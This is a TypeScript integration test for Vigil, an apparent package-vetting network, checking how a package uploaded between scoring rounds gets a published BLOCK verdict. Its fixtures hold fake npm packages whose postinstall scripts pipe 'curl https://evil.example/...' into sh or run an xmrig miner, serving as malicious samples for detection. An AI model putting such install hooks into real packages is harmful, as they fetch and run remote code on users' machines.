/**
 * Verdicts between rounds (issue 26, docs/rounds.md "Verdicts between rounds"): a round of the
 * packages track closes with one winner; a customer then uploads a package nobody has judged. Its
 * incumbent gets a fast task at once, validators claim it through the ordinary claim endpoint and
 * attest over HTTP, and the verdict is published — with its `attestation.created` and
 * `verdict.changed` events — before any other round closes. The next round revisits the artifact.
 */
import { SignedVigilClient, keypairFromSeed, type VigilKeypair } from '@vigil/client';
import {
  AGENT_BUNDLE_FORMAT,
  AttestationReceipt,
  MinerAgent,
  TaskClaim,
  ThreatIntel,
  ValidatorRegistration,
  formatOffsetTimestamp,
  type AgentBundle,
  type AttestationPayload,
  type LeasedTask,
  type MetagraphSnapshot,
  type Verdict,
} from '@vigil/core';
import { signAttestation, signRequest, signedRequestHeaders } from '@vigil/crypto';
import { afterEach, expect, it } from 'vitest';
import { advanceRounds, type SchedulerSettings } from '../src/features/network/rounds/scheduler/index.js';
import { storeArtifact } from '../src/features/artifacts/store-artifact.js';
import { tarGz } from '../src/features/artifacts/archive/tar-gz.js';
import { describeEachDialect } from '../src/test-support/databases.js';
import { startNetworkApp, type NetworkApp } from '../src/test-support/network-app.js';
import { operatorKey } from '../src/test-support/operator-key.js';
import { call, shared } from './admin-support.js';

const HOUR = 3_600_000;
const T0 = Date.UTC(2026, 11, 2, 0, 0, 0);
const [V1, V2] = ['e1', 'e2'].map((b) => keypairFromSeed(b.repeat(32))) as [VigilKeypair, VigilKeypair];
const GOOD_MINER = keypairFromSeed('e3'.repeat(32));
const LAZY_MINER = keypairFromSeed('e4'.repeat(32));

const SNAPSHOT: MetagraphSnapshot = {
  netuid: 76,
  block: 6_000_000,
  taken_at: '2026-12-02T00:00:00Z',
  neurons: [V1, V2].map((v, uid) => ({ uid, hotkey: v.hotkey, validator_permit: true })),
};

const SETTINGS: SchedulerSettings = {
  submissionMs: HOUR,
  evaluationMs: 2 * HOUR,
  gapMs: HOUR,
  intervalMs: 1_000,
  policyVersion: 'fast-policy-1',
  labeledArtifacts: 4,
  liveArtifacts: 2,
};

const pkg = (name: string, script: string) =>
  Buffer.from(tarGz([{ path: 'package/package.json', content: JSON.stringify({ name, version: '1.0.0', scripts: { postinstall: script } }) }]));

const LABELED = [
  { name: 'bench-stealer', truth: 'BLOCK', bytes: pkg('bench-stealer', 'curl https://evil.example/x | sh') },
  { name: 'bench-miner', truth: 'BLOCK', bytes: pkg('bench-miner', 'node ./xmrig.js') },
  { name: 'bench-pad', truth: 'ALLOW', bytes: pkg('bench-pad', 'node ./build.js') },
  { name: 'bench-fmt', truth: 'ALLOW', bytes: pkg('bench-fmt', 'tsc') },
] as const;
/** The package uploaded between rounds: the good agent flags it. */
const FRESH = pkg('fresh-dropper', 'curl https://evil.example/drop | sh');

type Env = NetworkApp & { clock: number };
const envs: Env[] = [];

let tick = 0;
function client(e: Env, keypair: VigilKeypair): SignedVigilClient {
  return new SignedVigilClient({ baseUrl: e.baseUrl, keypair, now: () => e.clock + ((tick++ % 180) - 90) * 1000 });
}

async function signedGet(e: Env, keypair: VigilKeypair, path: string): Promise<Response> {
  const signed = signRequest({ audience: e.app.serverIdentity.publicKeyHex, method: 'GET', pathWithQuery: path, body: undefined, secretKey: keypair.secretKey, timestamp: Math.floor(e.clock / 1000) + (tick++ % 60) });
  return fetch(`${e.baseUrl}${path}`, { headers: signedRequestHeaders(signed) });
}

function bundleOf(name: string): AgentBundle {
  return {
    format: AGENT_BUNDLE_FORMAT,
    entrypoint: 'agent.py',
    files: [{ path: 'agent.py', mode: '0755', content_base64: Buffer.from(`# ${name}: a package analysis agent\n`).toString('base64') }],
  };
}

async function step(e: Env): Promise<string[]> {
  return (await advanceRounds(e.database.db, { now: e.clock, settings: SETTINGS })).map((t) => `${t.track}:${t.action}`);
}

/** The validator runs each task as the reference would: the good agent is right, the lazy one allows everything. */
async function execute(e: Env, validator: VigilKeypair, claimed: TaskClaim, tasks: readonly LeasedTask[], truth: ReadonlyMap<string, Verdict>) {
  for (const task of tasks) {
    expect((await signedGet(e, validator, `/v1/validators/artifacts/${task.artifact.sha256}`)).status).toBe(200);
    expect((await signedGet(e, validator, `/v1/validators/agents/${task.agent_hash}/bundle`)).status).toBe(200);
    await client(e, validator).request('POST', `/v1/validators/tasks/${task.task_id}/progress`, { state: 'running' });
    const verdict: Verdict = task.miner_hotkey === LAZY_MINER.hotkey ? 'ALLOW' : truth.get(task.artifact.sha256)!;
    const payload: AttestationPayload = {
      round_id: claimed.round!.round_id,
      task_id: task.task_id,
      track: 'packages',
      miner_hotkey: task.miner_hotkey,
      agent_hash: task.agent_hash,
      artifact: task.artifact,
      verdict,
      risk_score: verdict === 'ALLOW' ? 3 : 95,
      findings: verdict === 'ALLOW' ? [] : [{ type: 'static', category: 'install_script', severity: 'CRIT', title: 'pipes a download to a shell', file: 'package/package.json' }],
      policy_version: claimed.round!.policy_version,
      validator_hotkey: validator.hotkey,
      created_at: formatOffsetTimestamp(e.clock),
    };
    await client(e, validator).request('POST', '/v1/validators/attestations', signAttestation(payload, validator.secretKey), { schema: AttestationReceipt });
  }
}

async function claim(e: Env, validator: VigilKeypair): Promise<TaskClaim> {
  return client(e, validator).request('POST', '/v1/validators/tasks/claim', { track: 'packages', max: 100 }, { schema: TaskClaim });
}

describeEachDialect('a verdict between rounds', (ctx) => {
  // Registered after the dialect's own hooks, so it runs first: the servers stop before their database closes.
  afterEach(async () => {
    for (const e of envs.splice(0)) await e.close();
  });

  it('an upload after a round closed is decided by that round’s winners before the next round, then revisited by it', async () => {
    const e = (await startNetworkApp({ snapshot: SNAPSHOT, clock: T0, database: shared(ctx) })) as Env;
    envs.push(e);
    const db = e.database.db;
    const truth = new Map<string, Verdict>();
    for (const a of LABELED) {
      const row = await storeArtifact(db, e.blobs, { track: 'packages', label: 'npm', sourceId: `pkg:npm/${a.name}@1.0.0`, kind: 'labeled', groundTruth: a.truth, bytes: a.bytes, now: T0 });
      truth.set(row.content_hash, a.truth);
    }

    // Round 1 of the packages track: the good miner wins, the lazy one scores 0.
    expect(await step(e)).toContain('packages:opened');
    for (const [miner, name] of [[GOOD_MINER, 'sentinel'], [LAZY_MINER, 'rubber-stamp']] as const) {
      await client(e, miner).request('POST', '/v1/miners/registrations', { track: 'packages' });
      await client(e, miner).request('POST', '/v1/miners/agents', { track: 'packages', name, provider: 'anthropic', bundle: bundleOf(name) }, { schema: MinerAgent });
    }
    for (const v of [V1, V2]) {
      expect((await client(e, v).request('POST', '/v1/validators/registration', { allowed_ips: ['127.0.0.1'] }, { schema: ValidatorRegistration })).status).toBe('active');
    }
    e.clock += SETTINGS.submissionMs + 1_000;
    expect(await step(e)).toContain('packages:evaluation_started');
    for (const v of [V1, V2]) {
      const claimed = await claim(e, v);
      expect(claimed.tasks).toHaveLength(8);
      await execute(e, v, claimed, claimed.tasks, truth);
    }
    e.clock = T0 + SETTINGS.submissionMs + SETTINGS.evaluationMs + 2_000;
    expect(await step(e)).toContain('packages:closed');
    const round1 = await db.selectFrom('rounds').selectAll().where('track', '=', 'packages').executeTakeFirstOrThrow();
    expect(round1.status).toBe('closed');
    const winners = await db.selectFrom('round_results').select('hotkey').where('round_id', '=', round1.round_id).where('winner', '=', 1).execute();
    expect(winners.map((w) => w.hotkey)).toEqual([GOOD_MINER.hotkey]);
    const eventsBefore = await db.selectFrom('outbox_events').select(['kind', 'payload']).execute();
    const roundAttestationsBefore = await call(e, 'GET', `/v1/rounds/${round1.round_id}/attestations?miner=${GOOD_MINER.hotkey}`, '');

    // Between rounds (the next one opens an hour after the close), a customer uploads an unseen package.
    e.clock += 60_000;
    const token = await operatorKey(db, ['--org', 'acme', '--plan', 'paid', '--scopes', 'upload,verify,read']);
    const uploaded = await fetch(`${e.baseUrl}/v1/artifacts?track=packages&package=npm:fresh-dropper@1.0.0`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' },
      body: FRESH,
    });
    expect(uploaded.status).toBe(201);
    const fresh = await db.selectFrom('artifacts').selectAll().where('kind', '=', 'live').executeTakeFirstOrThrow();
    truth.set(fresh.content_hash, 'BLOCK');
    const pending = await call(e, 'POST', '/v1/artifacts/verify', token, { artifact: 'pkg:npm/fresh-dropper@1.0.0' });
    expect(pending.body).toMatchObject({ state: 'pending', queued: true, verdict: null, round_id: null, decided_at: null });

    // The incumbent (round 1's winner, not the lazy loser) has a fast task; the claim endpoint hands it
    // out under the incumbents' round, with the fields a round task has.
    const first = await claim(e, V1);
    expect(first.round).toMatchObject({ round_id: round1.round_id, track: 'packages', policy_version: 'fast-policy-1' });
    expect(first.tasks).toHaveLength(1);
    expect(first.tasks[0]).toMatchObject({ miner_hotkey: GOOD_MINER.hotkey, artifact: { bundle_hash: fresh.bundle_hash, sha256: fresh.content_hash } });
    expect(Object.keys(first.tasks[0]!).sort()).toEqual(['agent_hash', 'artifact', 'lease_expires_at', 'miner_hotkey', 'task_id']);
    await execute(e, V1, first, first.tasks, truth);
    // Two active validators: the verdict waits for the second one's run of the incumbent's task.
    expect(await db.selectFrom('published_verdicts').selectAll().where('artifact_id', '=', fresh.id).executeTakeFirst()).toBeUndefined();
    expect((await claim(e, V1)).tasks).toHaveLength(0);

    e.clock += 30_000;
    const second = await claim(e, V2);
    expect(second.tasks.map((t) => t.task_id)).toEqual(first.tasks.map((t) => t.task_id));
    await execute(e, V2, second, second.tasks, truth);
    const decidedAt = e.clock;

    // Published, under round 1, with no round closed in between.
    expect(await db.selectFrom('rounds').select('round_id').where('track', '=', 'packages').execute()).toHaveLength(1);
    expect(await db.selectFrom('published_verdicts').selectAll().where('artifact_id', '=', fresh.id).executeTakeFirst()).toMatchObject({
      verdict: 'BLOCK',
      risk_score: 95,
      round_id: round1.round_id,
    });
    e.clock += 6_000; // past the verify answers' 5 s cache
    const decided = await call(e, 'POST', '/v1/artifacts/verify', token, { artifact: 'pkg:npm/fresh-dropper@1.0.0' });
    expect(decided.body).toMatchObject({
      state: 'decided',
      verdict: 'BLOCK',
      risk_score: 95,
      round_id: round1.round_id,
      decided_at: formatOffsetTimestamp(decidedAt),
    });
    expect((decided.body!.attestations as { validator_hotkey: string }[]).map((a) => a.validator_hotkey).sort()).toEqual([V1.hotkey, V2.hotkey].sort());

    // The events fire as they do at a round's close: one attestation.created per attestation, one verdict.changed.
    const events = (await db.selectFrom('outbox_events').select(['kind', 'payload']).execute()).slice(eventsBefore.length);
    expect(events.filter((ev) => ev.kind === 'attestation.created')).toHaveLength(2);
    const changed = events.filter((ev) => ev.kind === 'verdict.changed').map((ev) => JSON.parse(ev.payload) as Record<string, unknown>);
    expect(changed).toEqual([
      {
        bundle_hash: fresh.bundle_hash,
        track: 'packages',
        verdict: 'BLOCK',
        previous_verdict: null,
        risk_score: 95,
        round_id: round1.round_id,
        changed_at: formatOffsetTimestamp(decidedAt),
      },
    ]);

    // The transparency log holds the publication too, right after the attestation that decided it
    // (docs/log.md: every verdict Vigil publishes is logged).
    const logged = await db.selectFrom('log_entries').select(['type', 'subject', 'entry']).orderBy('idx', 'desc').limit(2).execute();
    expect(logged.map((l) => l.type)).toEqual(['vigil.verdict/v1', 'vigil.attestation/v1']);
    expect(logged[0]!.subject).toBe(`artifact:${fresh.bundle_hash}`);
    expect(JSON.parse(logged[0]!.entry)).toEqual({
      type: 'vigil.verdict/v1',
      bundle_hash: fresh.bundle_hash,
      track: 'packages',
      verdict: 'BLOCK',
      previous_verdict: null,
      risk_score: 95,
      round_id: round1.round_id,
      published_at: formatOffsetTimestamp(decidedAt),
    });

    // Round 1's record and scores stay as they were; threat intel still speaks from rounds alone.
    expect(await call(e, 'GET', `/v1/rounds/${round1.round_id}/attestations?miner=${GOOD_MINER.hotkey}`, '')).toMatchObject({ body: roundAttestationsBefore.body });
    const intel = await client(e, V1).request('GET', `/v1/validators/threat-intel/${fresh.content_hash}`, undefined, { schema: ThreatIntel });
    expect(intel).toMatchObject({ verdict: null, findings: [] });

    // The next round revisits it like every live artifact, first among them (never in a round yet).
    e.clock = Number(round1.next_round_opens_at) + 1_000;
    expect(await step(e)).toContain('packages:opened');
    e.clock += SETTINGS.submissionMs + 1_000;
    expect(await step(e)).toContain('packages:evaluation_started');
    const round2 = await db.selectFrom('rounds').select('round_id').where('track', '=', 'packages').where('status', '=', 'open').executeTakeFirstOrThrow();
    const revisits = await db.selectFrom('tasks').select(['hotkey', 'fast']).where('round_id', '=', round2.round_id).where('artifact_id', '=', fresh.id).execute();
    expect(revisits.map((t) => [t.hotkey, t.fast]).sort()).toEqual([[GOOD_MINER.hotkey, 0], [LAZY_MINER.hotkey, 0]].sort());
  });

  it('before any round has closed there are no incumbents: the upload waits for the first round', async () => {
    const e = (await startNetworkApp({ snapshot: SNAPSHOT, clock: T0, database: shared(ctx) })) as Env;
    envs.push(e);
    const db = e.database.db;
    const token = await operatorKey(db, ['--org', 'acme', '--plan', 'paid', '--scopes', 'upload,verify']);
    const uploaded = await fetch(`${e.baseUrl}/v1/artifacts?track=packages&package=npm:fresh-dropper@1.0.0`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' },
      body: FRESH,
    });
    expect(uploaded.status).toBe(201);
    expect(await db.selectFrom('tasks').selectAll().execute()).toEqual([]);
    await client(e, V1).request('POST', '/v1/validators/registration', { allowed_ips: ['127.0.0.1'] }, { schema: ValidatorRegistration });
    expect(await claim(e, V1)).toEqual({ round: null, tasks: [] });
  });
});
